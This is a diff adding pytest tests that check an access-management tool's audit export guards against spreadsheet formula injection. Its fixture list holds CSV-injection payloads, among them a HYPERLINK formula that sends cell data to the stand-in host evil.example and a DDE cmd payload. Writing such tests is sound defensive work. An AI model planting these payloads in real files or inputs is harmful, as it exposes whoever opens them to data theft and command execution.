@@ -191,3 +191,91 @@ def test_export_counts_only_transitions_that_happened(cli: Cli) -> None:
 def test_export_to_an_unwritable_place_is_a_usage_error(cli: Cli, tmp_path: Path) -> None:
     result = cli("audit", "export", "-o", tmp_path / "no" / "such" / "dir.csv", code=2)
     assert "cannot write" in flat(result.stderr)
+
+
+#: Justifications a spreadsheet would run as formulas, one per OWASP trigger character
+#: (a leading tab or carriage return is trimmed off a justification when it is
+#: submitted; ``csv_cell`` is tested with them below).
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+]
+
+
+def submit_formulas(cli: Cli) -> None:
+    with freeze_time(START):
+        cli(
+            "apps",
+            "register",
+            "crm",
+            "--scope",
+            "/subscriptions/s1/resourceGroups/mrg-crm",
+            "--publisher",
+            PUBLISHER,
+            "--admin",
+            ADMIN,
+            "--mode",
+            "manual",
+            "--approver",
+            APPROVER,
+        )
+        for hour, reason in enumerate(FORMULAS, start=11):
+            cli(
+                "requests",
+                "submit",
+                "crm",
+                "--as",
+                PUBLISHER,
+                "--role",
+                "Contributor",
+                "--duration",
+                "1h",
+                "--start",
+                f"2026-11-27T{hour}:00Z",
+                "--reason",
+                reason,
+            )
+
+
+def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run(
+    cli: Cli, tmp_path: Path
+) -> None:
+    submit_formulas(cli)
+    target = tmp_path / "audit.csv"
+    cli("audit", "export", "--format", "csv", "-o", target)
+    with target.open(newline="") as handle:
+        rows = [r for r in csv.DictReader(handle) if r["action"] == "submit"]
+    # Each dangerous justification is prefixed with one single quote, and nothing else
+    # about it changes; a spreadsheet shows it as text.
+    assert [r["reason"] for r in rows] == ["'" + reason for reason in FORMULAS]
+    text = target.read_text()
+    assert "'=HYPERLINK(" in text
+    # Every cell is quoted (OWASP), so a separator inside a cell cannot start another.
+    header = text.splitlines()[0]
+    assert header.startswith('"seq","at",') and header.endswith('"hash"')
+    # Ordinary cells are untouched.
+    assert rows[0]["actor"] == PUBLISHER and rows[0]["app"] == "crm"
+
+
+def test_jsonl_export_keeps_the_exact_justification(cli: Cli, tmp_path: Path) -> None:
+    submit_formulas(cli)
+    target = tmp_path / "audit.jsonl"
+    cli("audit", "export", "--format", "jsonl", "-o", target)
+    data = target.read_bytes()
+    rows = [json.loads(line) for line in data.decode().splitlines()]
+    assert [r["reason"] for r in rows if r["action"] == "submit"] == FORMULAS
+    # Byte for byte what json.dumps writes: no quote added, nothing else changed.
+    assert data == b"".join((json.dumps(row, default=str) + "\n").encode() for row in rows)
+    for reason in FORMULAS:
+        assert json.dumps(reason).encode() in data
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cell_quotes_each_owasp_trigger(trigger: str) -> None:
+    from jitaccess.audit_log import csv_cell
+
+    assert csv_cell(trigger + "1+1") == "'" + trigger + "1+1"
+    assert csv_cell("a" + trigger + "1") == "a" + trigger + "1"
+    assert csv_cell("") == ""
